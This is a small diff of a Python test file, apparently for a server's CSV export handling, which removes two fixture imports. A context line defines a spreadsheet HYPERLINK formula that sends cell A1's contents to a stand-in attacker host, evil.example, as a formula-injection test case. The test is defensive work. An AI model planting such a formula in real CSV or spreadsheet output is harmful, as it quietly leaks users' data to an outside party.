@@ -11,9 +11,7 @@ from server import corrections
 from server.csv_cells import cell
 
 from ..fixtures.desk import Desk
-from ..fixtures.desk import fast_argon2  # noqa: F401 - fixture
 from ..fixtures.headoffice import CARDS, build_known_set, close_office, register_customers
-from ..fixtures.headoffice import office_target  # noqa: F401 - fixture
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Customer A")'
 PERIOD = "start=2026-01-01&end=2026-01-31"
